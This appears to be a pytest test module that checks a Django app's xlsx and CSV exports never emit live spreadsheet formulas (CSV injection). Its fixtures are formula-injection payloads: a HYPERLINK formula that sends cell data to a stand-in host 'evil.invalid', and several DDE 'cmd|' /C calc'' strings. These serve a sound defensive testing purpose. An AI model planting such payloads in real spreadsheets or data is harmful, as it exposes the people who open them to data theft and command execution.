"""Exports never hand a spreadsheet a formula (OWASP, CSV Injection).

Orgs, party orgs, members and instructors named like formulas are made through the services and by
importing a spreadsheet; then every export path writes them: each ``export_table`` kind × xlsx and
CSV through the page and ``shuniu export``, the org list's download, the annotated error file (page
and ``shuniu import --errors``), and the commands that write CSV/xlsx through ``shuniu.core.output``.
In no file is any cell a formula, no text cell starts with a bare formula character, and the hostile
names are there with their leading quote. The paths are found in the code (URL patterns whose
views write a file, commands that write one, the export kinds), so a new one fails here until it
is covered.
"""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from shuniu.core import output
from shuniu.core.output import FORMULA_STARTS, neutralize
from shuniu.development.services import applicant_create
from shuniu.imports import cells
from shuniu.imports.selectors import EXPORT_KINDS
from shuniu.imports.services import batch_preview_upload, import_file, store_upload
from shuniu.party.services import party_org_update
from shuniu.passes.services import evaluation_record, inspection_record
from shuniu.registry.models import SocialOrg
from tests.factories import (
    HEHUACHI,
    SYSTEM,
    InstructorFactory,
    PartyMemberFactory,
    PartyOrgFactory,
    SocialOrgFactory,
    make_id_number,
    make_uscc,
)
from tests.imports.files import HEADERS, org_row, write_csv

pytestmark = pytest.mark.django_db

# Names as an attacker would choose them: each starts with a character a spreadsheet reads as the
# start of a formula. Services trim names, so tab and CR lead only in a field kept as given.
ORG_NAME = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击查看")'
IMPORTED_ORG_NAME = "=cmd|' /C calc'!A0"
PARTY_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
MEMBER_NAME = "-2+3+cmd|' /C calc'!A0"
IMPORTED_MEMBER_NAME = "+1+1+cmd|' /C calc'!A0"
INSTRUCTOR_NAME = "+HYPERLINK(\"http://evil.invalid\")"
TAB_EMPLOYER = "\t=1+2"
CR_EMPLOYER = "\r=3+4"
INSPECTION_NOTE = "=1+1年检备注"
EVALUATION_DOCUMENT = "@评估文号"
APPLICANT_NAME = "=2+2+cmd|' /C calc'!A0"
# A control character that xlsx cannot hold: openpyxl would refuse the whole file.
CONTROL_NAME = "控制\x01字符协会"

# What each export kind must show neutralized; kinds with no text that a user typed are listed apart.
HOSTILE_BY_KIND = {
    "orgs": {ORG_NAME, IMPORTED_ORG_NAME},
    "party_orgs": {PARTY_NAME, MEMBER_NAME},  # the member is the branch's secretary
    "members": {MEMBER_NAME, IMPORTED_MEMBER_NAME, ORG_NAME},
    "instructors": {INSTRUCTOR_NAME, TAB_EMPLOYER, CR_EMPLOYER},
    "inspections": {ORG_NAME, INSPECTION_NOTE},
    "evaluations": {ORG_NAME, EVALUATION_DOCUMENT},
    "applicants": {APPLICANT_NAME, ORG_NAME, PARTY_NAME},
    "life_orgs": {PARTY_NAME},  # the party orgs behind the org-life figures
}
NO_USER_TEXT = {"coverage", "life_compliance"}  # region names and figures only

# The views and commands that write a spreadsheet, each with the test below that checks it.
FILE_VIEWS = {
    "imports:export": "test_every_export_kind_through_the_page_and_the_command",
    "org_list": "test_the_org_list_download",
    "transfer_list": "test_the_transfer_list_download",
    "mobile_list": "test_the_mobile_list_download",
    "life_table": "test_the_org_life_table_and_the_party_orgs_behind_it_download",
    "life_orgs": "test_the_org_life_table_and_the_party_orgs_behind_it_download",
    "report_board": "test_the_secretary_reports_download",
    "imports:errors_file": "test_the_annotated_error_file_never_echoes_a_formula",
    "imports:template": "test_the_import_templates_hold_no_formula",
}
FILE_COMMANDS = {
    "export": "test_every_export_kind_through_the_page_and_the_command",
    "import": "test_the_annotated_error_file_never_echoes_a_formula",
    "batches": "test_the_commands_that_write_csv_and_xlsx",
    "coverage": "test_the_commands_that_write_csv_and_xlsx",
    "findings": "test_the_commands_that_write_csv_and_xlsx",
    "cases": "test_the_commands_that_write_csv_and_xlsx",
    "template": "test_the_import_templates_hold_no_formula",
}
_WRITERS = re.compile(r"\b(output\.write|write_export|write_annotated|write_template|_export|export)\(")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


# ---- reading what was written -----------------------------------------------------------------

def xlsx_cells(data: bytes | Path) -> list[tuple[Any, str]]:
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [(cell.value, cell.data_type) for ws in wb.worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


def csv_fields(data: bytes | Path) -> list[str]:
    text = (data if isinstance(data, bytes) else data.read_bytes()).decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def assert_inert(data: bytes | Path, fmt: str, hostile: set[str] = frozenset(), where: str = "") -> None:  # type: ignore[assignment]
    """No formula cell, no text starting with a bare formula character, each hostile value quoted."""
    if fmt == "xlsx":
        found = xlsx_cells(data)
        formulas = [v for v, kind in found if kind == "f"]
        assert not formulas, f"{where}: formula cells {formulas}"
        # XML reads a CR as a line feed: the cell is still quoted, and a line feed starts no formula.
        texts = [v.replace("\n", "\r") if v.startswith("'\n") else v for v, _kind in found if isinstance(v, str)]
    else:
        texts = csv_fields(data)
    bare = [t for t in texts if t.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(t)]
    assert not bare, f"{where}: cells starting with a formula character: {bare}"
    missing = {h for h in hostile if "'" + h not in texts}
    assert not missing, f"{where}: hostile values missing or not quoted: {missing}"


# ---- the world ------------------------------------------------------------------------------------

@pytest.fixture
def hostile(tmp_path: Path) -> dict[str, Any]:
    """Formula-like names in 荷花池街道, made through the services and by two imports."""
    org = SocialOrgFactory(name=ORG_NAME, region_code=HEHUACHI, supervisory_unit="=1+1主管单位")
    SocialOrgFactory(name=CONTROL_NAME, region_code=HEHUACHI)
    party = PartyOrgFactory(name=PARTY_NAME, covers=[org])
    member = PartyMemberFactory(name=MEMBER_NAME, workplace=org, relation_org=party, id_number=make_id_number(9001))
    party_org_update(actor=SYSTEM, party_org=party, secretary=member)
    inspection_record(actor=SYSTEM, org=org, year=2023, conclusion="pass", note=INSPECTION_NOTE)
    evaluation_record(actor=SYSTEM, org=org, year=2023, grade="3A", decided_on="2023-12-01",
                      document_number=EVALUATION_DOCUMENT)
    applicant_create(actor=SYSTEM, name=APPLICANT_NAME, gender="male", id_number=make_id_number(9003),
                     applied_on="2024-03-01", workplace=org, branch=party)
    InstructorFactory(name=INSTRUCTOR_NAME, employer=TAB_EMPLOYER)
    InstructorFactory(name="回车指导员", employer=CR_EMPLOYER)

    row = org_row(1)
    row[0], row[1], row[3] = IMPORTED_ORG_NAME, make_uscc(9_100_001, "320404", "service_institution"), HEHUACHI
    preview, batch = import_file(actor=SYSTEM, kind="orgs", path=write_csv(tmp_path / "orgs.csv", [row]))
    assert batch is not None, preview.errors
    members = tmp_path / "members.csv"
    write_csv(members, [[IMPORTED_MEMBER_NAME, "男", make_id_number(9002), "正式党员", "2015-07-01", row[1]]],
              headers=["姓名", "性别", "公民身份号码", "党员状态", "入党日期", "工作单位统一社会信用代码"])
    preview, batch = import_file(actor=SYSTEM, kind="members", path=members)
    assert batch is not None, preview.errors
    return {"org": org, "party": party}


# ---- the function and the round trip --------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "'=1", "''+1"])
def test_text_that_a_spreadsheet_reads_as_a_formula_gets_a_quote(value: str) -> None:
    assert neutralize(value) == "'" + value
    assert cells.text(neutralize(value)) == value.strip()  # imported back as it was


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, "", "名称", "a=b", "'quoted", " =1"])
def test_numbers_and_plain_text_are_left_alone(value: Any) -> None:
    assert neutralize(value) == value


def test_a_negative_number_stays_a_number(tmp_path: Path) -> None:
    columns = [("name", "名称"), ("n", "数")]
    output.write([{"name": "=1+1", "n": -5}], columns, "xlsx", str(tmp_path / "n.xlsx"))
    found = dict(xlsx_cells(tmp_path / "n.xlsx"))
    assert found[-5] == "n" and found["'=1+1"] == "s"
    output.write([{"name": "=1+1", "n": -5}], columns, "csv", str(tmp_path / "n.csv"))
    assert csv_fields(tmp_path / "n.csv")[2:] == ["'=1+1", "-5"]


def test_on_import_only_the_quote_before_a_formula_character_is_taken_off() -> None:
    assert cells.text("'=HYPERLINK()") == "=HYPERLINK()"
    assert cells.text("'名称") == "'名称"
    assert cells.text("''=1") == "'=1"  # one quote only
    assert cells.code("'-320404") == "320404"
    assert cells.integer("'-5") == -5


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exported_formula_names_import_back_as_the_same_names(hostile: dict[str, Any], tmp_path: Path,
                                                              fmt: str) -> None:
    out = tmp_path / f"orgs.{fmt}"
    call_command("export", "orgs", "--region", HEHUACHI, "--format", fmt, "-o", str(out), stdout=io.StringIO())
    text = io.StringIO()
    call_command("import", "orgs", str(out), stdout=text, stderr=io.StringIO())
    # Only the name with a control character changes, and only through xlsx, which cannot hold it.
    expected = "0 created, 1 updated, 2 unchanged" if fmt == "xlsx" else "0 created, 0 updated, 3 unchanged"
    assert expected in text.getvalue()
    assert set(SocialOrg.objects.filter(region_id=HEHUACHI).values_list("name", flat=True)) == {
        ORG_NAME, IMPORTED_ORG_NAME, CONTROL_NAME.replace("\x01", "\ufffd") if fmt == "xlsx" else CONTROL_NAME}


# ---- every export path ----------------------------------------------------------------------------

def _patterns(resolver: URLResolver | None = None, prefix: str = "") -> Iterator[tuple[str, Any]]:
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            if p.namespace == "admin" or p.namespace == "api":  # the admin writes no files; the API answers JSON
                continue
            yield from _patterns(p, f"{prefix}{p.namespace}:" if p.namespace else prefix)
        elif isinstance(p, URLPattern) and p.name:
            yield f"{prefix}{p.name}", p.callback


def test_every_view_and_command_that_writes_a_spreadsheet_is_covered_here() -> None:
    views = {name for name, view in _patterns() if _WRITERS.search(inspect.getsource(inspect.unwrap(view)))}
    assert views == set(FILE_VIEWS), "a view writes a file: cover it in this module and list it in FILE_VIEWS"
    commands = set()
    for name, app in get_commands().items():
        if app.startswith("shuniu"):
            source = inspect.getsource(importlib.import_module(f"{app}.management.commands.{name}"))
            if _WRITERS.search(source):
                commands.add(name)
    assert commands == set(FILE_COMMANDS), "a command writes a file: cover it here and list it in FILE_COMMANDS"
    assert set(EXPORT_KINDS) == set(HOSTILE_BY_KIND) | NO_USER_TEXT, "a new export kind: give it hostile data here"
    for test in {*FILE_VIEWS.values(), *FILE_COMMANDS.values()}:
        assert test in globals(), test


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", EXPORT_KINDS)
def test_every_export_kind_through_the_page_and_the_command(hostile: dict[str, Any], client: Any,
                                                            zhonglou_officer: Any, tmp_path: Path,
                                                            kind: str, fmt: str) -> None:
    expected = HOSTILE_BY_KIND.get(kind, set())
    client.force_login(zhonglou_officer)
    response = client.get(reverse("imports:export", args=[kind, fmt]))
    assert response.status_code == 200
    assert_inert(b"".join(response.streaming_content), fmt, expected, f"page {kind}.{fmt}")
    out = tmp_path / f"{kind}.{fmt}"
    call_command("export", kind, "--user", "zhonglou", "--format", fmt, "-o", str(out), stdout=io.StringIO())
    assert_inert(out, fmt, expected, f"shuniu export {kind} --format {fmt}")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_org_list_download(hostile: dict[str, Any], client: Any, zhonglou_officer: Any, fmt: str) -> None:
    client.force_login(zhonglou_officer)
    response = client.get(reverse("org_list"), {"format": fmt})
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert_inert(data, fmt, {ORG_NAME, IMPORTED_ORG_NAME}, f"org list {fmt}")
    # xlsx shows what it cannot hold as U+FFFD; CSV keeps the character as it is.
    shown = [v for v, _k in xlsx_cells(data)] if fmt == "xlsx" else csv_fields(data)
    assert (CONTROL_NAME.replace("\x01", "\ufffd") if fmt == "xlsx" else CONTROL_NAME) in shown


TRANSFER_REASON = "=1+1转接原因"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_transfer_list_download(hostile: dict[str, Any], client: Any, zhonglou_officer: Any, fmt: str) -> None:
    from shuniu.party.models import PartyMember
    from shuniu.transfers.services import letter_issue

    member = PartyMember.objects.get(name=MEMBER_NAME)
    letter_issue(actor=SYSTEM, member=member, to_org=PartyOrgFactory(name="+接收党支部"), reason=TRANSFER_REASON)
    client.force_login(zhonglou_officer)
    response = client.get(reverse("transfer_list"), {"format": fmt})
    assert response.status_code == 200
    assert_inert(b"".join(response.streaming_content), fmt, {MEMBER_NAME, PARTY_NAME, TRANSFER_REASON},
                 f"transfer list {fmt}")


MOBILE_DESTINATION = "=1+1外出地点"
MOBILE_REASON = "@外出原因"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_mobile_list_download(hostile: dict[str, Any], client: Any, zhonglou_officer: Any, fmt: str) -> None:
    from shuniu.mobile.services import outflow_register
    from shuniu.party.models import PartyMember

    member = PartyMember.objects.get(name=MEMBER_NAME)
    outflow_register(actor=SYSTEM, member=member, destination=MOBILE_DESTINATION, since="2026-01-01",
                     reason=MOBILE_REASON, certificate_no="-12+活动证")
    client.force_login(zhonglou_officer)
    response = client.get(reverse("mobile_list"), {"format": fmt})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert_inert(data, fmt, {MEMBER_NAME, MOBILE_DESTINATION, MOBILE_REASON}, f"mobile list {fmt}")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_org_life_table_and_the_party_orgs_behind_it_download(hostile: dict[str, Any], client: Any,
                                                                  zhonglou_officer: Any, fmt: str) -> None:
    client.force_login(zhonglou_officer)
    for url, query, names in (("life_table", {"by": "type"}, set()), ("life_table", {}, set()),
                              ("life_orgs", {}, {PARTY_NAME})):
        response = client.get(reverse(url), {**query, "format": fmt})
        assert response.status_code == 200
        data = b"".join(response.streaming_content) if response.streaming else response.content
        assert_inert(data, fmt, names, f"{url} {query} {fmt}")


REPORT_SUPERIOR = "=1+1述职上级党委"
REPORT_BRANCH = "@述职党支部"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_secretary_reports_download(hostile: dict[str, Any], client: Any, zhonglou_officer: Any,
                                        fmt: str) -> None:
    import datetime as dt

    superior = PartyOrgFactory(name=REPORT_SUPERIOR, kind="comprehensive_committee", region_code=HEHUACHI)
    PartyOrgFactory(name=REPORT_BRANCH, superior=superior, region_code=HEHUACHI)
    client.force_login(zhonglou_officer)
    response = client.get(reverse("report_board"), {"format": fmt, "year": dt.date.today().year - 1})
    assert response.status_code == 200
    assert_inert(b"".join(response.streaming_content), fmt, {REPORT_SUPERIOR, REPORT_BRANCH},
                 f"secretary reports {fmt}")


def _bad_upload(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A CSV of orgs with formula-like cells, an unknown formula-like column, and errors: a bad USCC
    under a column the mapping names "@统一社会信用代码", so that its message starts with "@"."""
    headers = [("@统一社会信用代码" if h == "统一社会信用代码" else h) for h in HEADERS] + ["=HYPERLINK(\"x\")"]
    bad = org_row(2)
    bad[0], bad[1] = "=cmd|' /C calc'!A0", "-1234"
    good = org_row(3)
    good[0], good[5] = "+SUM(1,2)", "主管\x02单位"
    path = write_csv(tmp_path / "坏文件.csv", [[*bad, "=1+1"], [*good, "@A1"]], headers=headers)
    return path, {"uscc": "@统一社会信用代码"}


def test_the_annotated_error_file_never_echoes_a_formula(client: Any, zhonglou_officer: Any,
                                                         tmp_path: Path) -> None:
    path, mapping = _bad_upload(tmp_path)
    stored = store_upload([path.read_bytes()], path.name)
    batch = batch_preview_upload(actor=zhonglou_officer, kind="orgs", path=stored, filename=path.name,
                                 mapping=mapping)
    assert batch.errors
    client.force_login(zhonglou_officer)
    response = client.get(reverse("imports:errors_file", args=[batch.pk]))
    assert response.status_code == 200
    echoed = {"=cmd|' /C calc'!A0", "-1234", "+SUM(1,2)", "=HYPERLINK(\"x\")", "=1+1", "@A1", "@统一社会信用代码"}
    data = b"".join(response.streaming_content)
    assert_inert(data, "xlsx", echoed, "errors file (page)")
    assert any(isinstance(v, str) and v.startswith("'@统一社会信用代码：") for v, _k in xlsx_cells(data))

    (tmp_path / "mapping.json").write_text(json.dumps(mapping, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "errors.xlsx"
    with pytest.raises(Exception, match="处错误"):
        call_command("import", "orgs", str(path), "--dry-run", "--mapping", str(tmp_path / "mapping.json"),
                     "--errors", str(out), stdout=io.StringIO(), stderr=io.StringIO())
    assert_inert(out, "xlsx", echoed, "shuniu import --errors")


def test_the_import_templates_hold_no_formula(client: Any, zhonglou_officer: Any, tmp_path: Path) -> None:
    from shuniu.imports.kinds import KINDS
    from shuniu.registry.models import Industry

    # The templates' drop-down lists come from the database (industries) as well as from the code.
    Industry.objects.create(code="zz-hostile", name="=HYPERLINK(\"x\")行业")
    client.force_login(zhonglou_officer)
    for kind in KINDS:
        response = client.get(reverse("imports:template", args=[kind]))
        assert_inert(b"".join(response.streaming_content), "xlsx",
                     {"=HYPERLINK(\"x\")行业"} if kind == "orgs" else set(), f"template {kind}")
        out = tmp_path / f"{kind}.xlsx"
        call_command("template", kind, "-o", str(out), stdout=io.StringIO())
        assert_inert(out, "xlsx", set(), f"shuniu template {kind}")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_commands_that_write_csv_and_xlsx(hostile: dict[str, Any], tmp_path: Path, fmt: str) -> None:
    # A file whose very name is a formula, listed by ``shuniu batches``.
    named = tmp_path / "=1+2.csv"
    write_csv(named, [org_row(4)])
    import_file(actor=SYSTEM, kind="orgs", path=named)
    # A case whose title is a formula, listed by ``shuniu cases``.
    from shuniu.cases.services import case_open

    case_open(actor=SYSTEM, kind="change_report", party_org=hostile["party"], title="=2+3变更报告",
              data={"event": "rename", "event_on": "2024-01-01"})
    for command, args, expected in [
        ("batches", [], {"=1+2.csv"}),
        ("cases", ["--region", "320404"], {"=2+3变更报告"}),
        ("coverage", ["--region", "320404"], set()),
        ("findings", ["--region", "320404"], set()),
    ]:
        out = tmp_path / f"{command}.{fmt}"
        call_command(command, *args, "--format", fmt, "-o", str(out), stdout=io.StringIO(), stderr=io.StringIO())
        assert_inert(out, fmt, expected, f"shuniu {command} --format {fmt}")
